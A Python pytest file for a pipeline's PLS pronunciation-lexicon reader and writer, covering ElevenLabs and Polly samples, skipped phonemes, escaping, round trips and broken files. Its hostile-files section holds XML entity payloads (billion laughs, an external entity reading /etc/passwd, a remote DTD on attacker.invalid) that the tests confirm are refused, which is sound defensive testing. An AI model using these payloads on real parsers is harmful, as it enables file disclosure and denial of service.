"""PLS 1.0 lexicons: what is read from the files ElevenLabs, Azure and Polly users bring, what is
skipped and why, hostile and broken files, and what is written."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from pipeline.errors import PipelineError, SourceFileError
from pipeline.lexicon.pls import (
    MAX_LEXICON_BYTES,
    PLS_NAMESPACE,
    PlsAlias,
    PlsLexicon,
    PlsSkipped,
    read_pls,
    write_pls,
)

NS = f'xmlns="{PLS_NAMESPACE}"'
NO_PHONEME = "this API takes text only, so it cannot be used; add a respelling with `say`"

# As the ElevenLabs documentation shows them: schema location, an IPA default, aliases and a phoneme.
ELEVENLABS = """<?xml version="1.0" encoding="UTF-8"?>
<lexicon version="1.0"
      {ns}
      xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
      xsi:schemaLocation="http://www.w3.org/2005/01/pronunciation-lexicon
        http://www.w3.org/TR/2007/CR-pronunciation-lexicon-20071212/pls.xsd"
      alphabet="ipa" xml:lang="en-GB">
  <!-- brand names -->
  <lexeme>
    <grapheme>Nginx</grapheme>
    <alias>Engine X</alias>
  </lexeme>
  <lexeme>
    <grapheme>UN</grapheme>
    <alias>United Nations</alias>
  </lexeme>
  <lexeme>
    <grapheme>Apple</grapheme>
    <phoneme>ˈæpl̩</phoneme>
  </lexeme>
  <lexeme>
    <grapheme>Thailand</grapheme>
    <alias>tie-land</alias>
  </lexeme>
</lexicon>
"""

# As Amazon Polly's documentation shows them: x-sampa by default, one phoneme naming IPA itself.
POLLY = """<?xml version="1.0" encoding="UTF-8"?>
<lexicon version="1.0" {ns} alphabet="x-sampa" xml:lang="en-US">
  <lexeme>
    <grapheme>Pekingese</grapheme>
    <phoneme>pi.kI."niz</phoneme>
  </lexeme>
  <lexeme>
    <grapheme>Mmmm</grapheme>
    <phoneme alphabet="ipa">ˈm̩ːm</phoneme>
  </lexeme>
  <lexeme>
    <grapheme>W3C</grapheme>
    <alias>World Wide Web Consortium</alias>
  </lexeme>
</lexicon>
"""


def write(tmp_path: Path, text: str | bytes, name: str = "lexicon.pls") -> Path:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def lexicon_of(tmp_path: Path, body: str, *, ns: str = NS, attributes: str = 'alphabet="ipa" xml:lang="en-US"') -> PlsLexicon:
    """Read a lexicon whose ``body`` starts on line 3."""
    return read_pls(write(tmp_path, f'<?xml version="1.0"?>\n<lexicon version="1.0" {ns} {attributes}>\n{body}\n</lexicon>\n'))


def refused(path: Path, *fragments: str) -> str:
    """The message of the SourceFileError that reading ``path`` raises, which must name the file and hold
    every fragment."""
    with pytest.raises(SourceFileError) as caught:
        read_pls(path)
    message = str(caught.value)
    assert message.startswith(f"{path}: ")
    assert "\n" not in message
    for fragment in fragments:
        assert fragment in message
    return message


# --- what is read -----------------------------------------------------------------------------------

@pytest.mark.parametrize("ns", [NS, ""], ids=["namespace", "bare"])
def test_an_elevenlabs_file(tmp_path: Path, ns: str) -> None:
    lexicon = read_pls(write(tmp_path, ELEVENLABS.format(ns=ns)))
    assert lexicon.language == "en-GB"
    assert lexicon.alphabet == "ipa"
    assert lexicon.aliases == (
        PlsAlias(("Nginx",), "Engine X", 9),
        PlsAlias(("UN",), "United Nations", 13),
        PlsAlias(("Thailand",), "tie-land", 21),
    )
    assert lexicon.skipped == (PlsSkipped(("Apple",), f"a <phoneme> entry (IPA): {NO_PHONEME}", 17),)


@pytest.mark.parametrize("ns", [NS, ""], ids=["namespace", "bare"])
def test_a_polly_file_reports_its_phonemes_as_skipped_with_their_lines(tmp_path: Path, ns: str) -> None:
    lexicon = read_pls(write(tmp_path, POLLY.format(ns=ns)))
    assert lexicon.language == "en-US"
    assert lexicon.alphabet == "x-sampa"
    assert lexicon.skipped == (
        PlsSkipped(("Pekingese",), f"a <phoneme> entry (X-SAMPA): {NO_PHONEME}", 3),
        PlsSkipped(("Mmmm",), f"a <phoneme> entry (IPA): {NO_PHONEME}", 7),
    )
    assert lexicon.aliases == (PlsAlias(("W3C",), "World Wide Web Consortium", 11),)


def test_every_grapheme_of_a_lexeme_is_kept_in_order_and_once(tmp_path: Path) -> None:
    lexicon = lexicon_of(tmp_path, """<lexeme>
  <grapheme>tomato</grapheme><grapheme>Tomato</grapheme><grapheme>TOMATO</grapheme><grapheme>tomato</grapheme>
  <alias>tom-ah-toe</alias>
</lexeme>""")
    assert lexicon.aliases == (PlsAlias(("tomato", "Tomato", "TOMATO"), "tom-ah-toe", 3),)


def test_an_alias_wins_over_a_phoneme_and_nothing_is_skipped(tmp_path: Path) -> None:
    lexicon = lexicon_of(tmp_path, """<lexeme>
  <grapheme>Nguyen</grapheme>
  <phoneme>ŋwiən</phoneme>
  <alias>Win</alias>
  <alias>New-yen</alias>
</lexeme>""")
    assert lexicon.aliases == (PlsAlias(("Nguyen",), "Win", 3),)
    assert lexicon.skipped == ()


def test_whitespace_is_collapsed_and_stripped(tmp_path: Path) -> None:
    lexicon = lexicon_of(tmp_path, """<lexeme>
  <grapheme>
      New
      York
  </grapheme>
  <grapheme>\tNYC\u00a0</grapheme>
  <alias>  the   Big\n Apple </alias>
</lexeme>""")
    assert lexicon.aliases == (PlsAlias(("New York", "NYC"), "the Big Apple", 3),)


def test_lexemes_that_cannot_become_entries_are_skipped_with_the_reason(tmp_path: Path) -> None:
    lexicon = lexicon_of(tmp_path, """<lexeme><alias>orphan</alias></lexeme>
<lexeme><grapheme>  </grapheme><alias>blank</alias></lexeme>
<lexeme><grapheme>Hush</grapheme><alias>  </alias></lexeme>
<lexeme><grapheme>Quiet</grapheme><alias/><phoneme alphabet="x-sampa">"kwaI@t</phoneme></lexeme>
<lexeme><grapheme>Bare</grapheme></lexeme>
<lexeme><grapheme>Arpa</grapheme><phoneme alphabet="cmu-arpabet">AA1 R P AH0</phoneme><phoneme>ˈɑɹpə</phoneme></lexeme>""")
    assert lexicon.aliases == ()
    reasons = {skip.line: (skip.graphemes, skip.reason) for skip in lexicon.skipped}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8]
    assert reasons[3] == ((), "a <lexeme> with no <grapheme>: there is no word to replace; add the <grapheme> it is for")
    assert reasons[4][0] == ()
    assert reasons[5] == (("Hush",), "its <alias> is empty: there is nothing to say instead; write the respelling "
                                     "in the <alias>, or add one with `say`")
    assert reasons[6][0] == ("Quiet",)
    assert "its <alias> is empty (its <phoneme> entry, X-SAMPA, cannot be used: this API takes text only)" in reasons[6][1]
    assert reasons[7] == (("Bare",), "a <lexeme> with neither <alias> nor <phoneme>: there is nothing to say "
                                     "instead; add a respelling with `say`")
    assert reasons[8] == (("Arpa",), f"a <phoneme> entry (CMU Arpabet, IPA): {NO_PHONEME}")


def test_metadata_examples_comments_and_other_vocabularies_are_ignored(tmp_path: Path) -> None:
    lexicon = lexicon_of(tmp_path, """<meta name="author" content="someone"/>
<metadata><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">Names</dc:title></metadata>
<?tool hint?>
<lexeme xml:id="gif" role="noun">
  <grapheme>GIF</grapheme>
  <!-- a comment <alias>not this</alias> -->
  <alias>jiff</alias>
  <example>The GIF loops.</example>
  <x:note xmlns:x="urn:example">ignored</x:note>
</lexeme>
<x:lexeme xmlns:x="urn:example"><x:grapheme>no</x:grapheme><x:alias>no</x:alias></x:lexeme>""")
    assert lexicon.aliases == (PlsAlias(("GIF",), "jiff", 6),)
    assert lexicon.skipped == ()


def test_a_lexicon_without_lexemes_language_or_alphabet(tmp_path: Path) -> None:
    assert lexicon_of(tmp_path, "", attributes="") == PlsLexicon(None, None, (), ())


def test_a_utf16_file_with_a_byte_order_mark(tmp_path: Path) -> None:
    text = f'<?xml version="1.0" encoding="UTF-16"?>\n<lexicon version="1.0" {NS} alphabet="ipa" xml:lang="de-DE">' \
           "<lexeme><grapheme>Straße</grapheme><alias>Strasse</alias></lexeme></lexicon>"
    lexicon = read_pls(write(tmp_path, text.encode("utf-16")))
    assert lexicon.aliases == (PlsAlias(("Straße",), "Strasse", 2),)


def test_lines_past_65535_are_right(tmp_path: Path) -> None:
    body = "\n".join(f"<lexeme><grapheme>w{n}</grapheme><alias>a{n}</alias></lexeme>" for n in range(70_000))
    lexicon = lexicon_of(tmp_path, body)
    assert lexicon.aliases[-1] == PlsAlias(("w69999",), "a69999", 70_002)


# --- what is written --------------------------------------------------------------------------------

AWKWARD = [("AT&T", "A T and T"), ("<tag>", 'the "tag" & \'its\' <end>'), ("Zoë", "Zo-ay"), ("北京", "Bay-jing"),
           ("Ångström", "ong-strum"), ("]]>", "end of section")]


def test_the_written_document_is_pls_1_0(tmp_path: Path) -> None:
    text = write_pls(AWKWARD, language="en-GB")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    root = etree.fromstring(text.encode("utf-8"))
    assert root.tag == f"{{{PLS_NAMESPACE}}}lexicon"
    assert root.nsmap == {None: PLS_NAMESPACE}
    assert dict(root.attrib) == {"version": "1.0", "alphabet": "ipa", "{http://www.w3.org/XML/1998/namespace}lang": "en-GB"}
    lexemes = list(root)
    assert len(lexemes) == len(AWKWARD)
    for lexeme, (term, say) in zip(lexemes, AWKWARD):
        assert [(child.tag, child.text) for child in lexeme] == [
            (f"{{{PLS_NAMESPACE}}}grapheme", term), (f"{{{PLS_NAMESPACE}}}alias", say)]


def test_the_written_text_escapes_markup_and_keeps_non_ascii_as_utf8() -> None:
    text = write_pls(AWKWARD)
    assert "<grapheme>AT&amp;T</grapheme>" in text
    assert "<grapheme>&lt;tag&gt;</grapheme>" in text
    assert "<grapheme>Zoë</grapheme>" in text
    assert "<grapheme>北京</grapheme>" in text
    assert "&#" not in text
    assert 'xml:lang="en-US"' in text


def test_escaping_round_trips(tmp_path: Path) -> None:
    lexicon = read_pls(write(tmp_path, write_pls(AWKWARD, language="fr-CA")))
    assert lexicon.language == "fr-CA"
    assert lexicon.skipped == ()
    assert [(alias.graphemes, alias.alias) for alias in lexicon.aliases] == [((t,), s) for t, s in AWKWARD]


def test_written_whitespace_is_what_reading_gives() -> None:
    assert "<grapheme>New York</grapheme>" in write_pls([("  New \n York ", "new   york")])
    assert "<alias>new york</alias>" in write_pls([("New York", "new   york")])


def test_an_empty_lexicon_is_written() -> None:
    root = etree.fromstring(write_pls([]).encode("utf-8"))
    assert len(root) == 0


@pytest.mark.parametrize(("entries", "language", "message"), [
    ([("", "x")], "en-US", "an empty term or respelling"), ([("x", " \n")], "en-US", "an empty term or respelling"),
    ([("x", "y")], " ", "the language is empty"),
    ([("bell\x07", "x")], "en-US", "must be XML compatible"),  # lxml's own message
])
def test_what_cannot_be_written_is_a_value_error(entries: list[tuple[str, str]], language: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        write_pls(entries, language=language)


XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn"), blacklist_characters="\ufffe\uffff"),
                   min_size=1, max_size=20).map(lambda s: " ".join(s.split())).filter(bool)


@given(entries=st.lists(st.tuples(XML_TEXT, XML_TEXT), max_size=8))
def test_any_entries_round_trip(tmp_path_factory: pytest.TempPathFactory, entries: list[tuple[str, str]]) -> None:
    path = tmp_path_factory.mktemp("pls") / "round.pls"
    path.write_text(write_pls(entries), encoding="utf-8")
    lexicon = read_pls(path)
    assert [(alias.graphemes[0], alias.alias) for alias in lexicon.aliases] == entries
    assert lexicon.skipped == ()


# --- broken files ---------------------------------------------------------------------------------

def test_malformed_xml_names_the_file_the_line_and_the_fix(tmp_path: Path) -> None:
    path = write(tmp_path, f'<?xml version="1.0"?>\n<lexicon {NS}>\n  <lexeme>\n    <grapheme>A</alias>\n  </lexeme>\n</lexicon>\n')
    message = refused(path, "cannot be read as a PLS lexicon: is not well-formed XML", "line 4",
                      "fix the file, or export the lexicon again from the tool that made it")
    assert "Traceback" not in message


@pytest.mark.parametrize("content", [b"", b"   \n", b"\xff\xfe\x00garbage", b"Nginx=Engine X\n", b"<lexicon>"])
def test_what_is_not_xml_is_refused(tmp_path: Path, content: bytes) -> None:
    refused(write(tmp_path, content), "cannot be read as a PLS lexicon")


@pytest.mark.parametrize(("document", "root"), [
    ('<speak version="1.1" xmlns="http://www.w3.org/2001/10/synthesis" xml:lang="en-US">Hello</speak>',
     "<speak> in the namespace 'http://www.w3.org/2001/10/synthesis'"),
    ('<html><body><p>Nginx: Engine X</p></body></html>', "<html>,"),
    ('<lexicon xmlns="urn:someone-else"><lexeme><grapheme>a</grapheme><alias>b</alias></lexeme></lexicon>',
     "<lexicon> in the namespace 'urn:someone-else'"),
])
def test_xml_that_is_not_pls_is_refused(tmp_path: Path, document: str, root: str) -> None:
    path = write(tmp_path, f'<?xml version="1.0"?>\n\n{document}', name="lexicon.xml")
    refused(path, "line 3: is not a PLS lexicon: its root element is", root,
            f"not <lexicon> in '{PLS_NAMESPACE}'", "exported as PLS (.pls)")


def test_a_missing_file_and_a_folder(tmp_path: Path) -> None:
    refused(tmp_path / "missing.pls", "does not exist; check the path")
    (tmp_path / "folder.pls").mkdir()
    refused(tmp_path / "folder.pls", "is a folder; give the PLS lexicon file itself")


def test_an_oversized_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.pls"
    with path.open("wb") as handle:
        handle.truncate(MAX_LEXICON_BYTES + 1)  # sparse: nothing to read, and nothing is read
    refused(path, f"is {MAX_LEXICON_BYTES + 1:,} bytes, over the {MAX_LEXICON_BYTES:,}-byte limit for a PLS "
                  "lexicon", "is it the right file?")


def test_errors_are_pipeline_errors_with_a_usage_exit_code(tmp_path: Path) -> None:
    with pytest.raises(PipelineError) as caught:
        read_pls(tmp_path / "missing.pls")
    assert caught.value.exit_code == 2


# --- hostile files --------------------------------------------------------------------------------

LAUGHS = ('<!DOCTYPE lexicon [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')


@pytest.mark.parametrize(("doctype", "reference"), [
    (LAUGHS, "&lol3;"),
    ('<!DOCTYPE lexicon [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;"),
    ('<!DOCTYPE lexicon [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>', "x"),
], ids=["billion-laughs", "external-entity", "parameter-entity"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entity_declarations_are_refused(tmp_path: Path, doctype: str, reference: str, encoding: str) -> None:
    document = (f'<?xml version="1.0" encoding="{encoding.upper()}"?>{doctype}<lexicon {NS}><lexeme>'
                f"<grapheme>bomb</grapheme><alias>{reference}</alias></lexeme></lexicon>")
    refused(write(tmp_path, document.encode(encoding)), "cannot be read as a PLS lexicon: declares XML entities",
            "refused")


def test_an_external_dtd_is_never_loaded_and_its_entities_never_expanded(tmp_path: Path) -> None:
    dtd = write(tmp_path, '<!ENTITY secret "SECRET FROM THE DTD">', name="evil.dtd")
    path = write(tmp_path, f'<?xml version="1.0"?>\n<!DOCTYPE lexicon SYSTEM "{dtd.as_uri()}">\n<lexicon {NS}>\n'
                           "<lexeme><grapheme>key</grapheme><alias>&secret;</alias></lexeme>\n</lexicon>\n")
    message = refused(path, "line 4: refers to the entity &secret;, which is never expanded",
                      "write the characters it stands for instead")
    assert "SECRET FROM THE DTD" not in message


def test_a_remote_dtd_is_not_fetched_and_the_file_reads(tmp_path: Path) -> None:
    # attacker.invalid cannot resolve: fetching it would fail the parse, not read the lexicon.
    path = write(tmp_path, '<?xml version="1.0"?>\n<!DOCTYPE lexicon SYSTEM "http://attacker.invalid/pls.dtd">\n'
                           f"<lexicon {NS}><lexeme><grapheme>a</grapheme><alias>b</alias></lexeme></lexicon>\n")
    assert read_pls(path).aliases == (PlsAlias(("a",), "b", 3),)


def test_undefined_named_entities_are_an_error_not_text(tmp_path: Path) -> None:
    path = write(tmp_path, f'<lexicon {NS}><lexeme><grapheme>caf&eacute;</grapheme><alias>ka-fay</alias></lexeme></lexicon>')
    refused(path, "is not well-formed XML", "eacute")
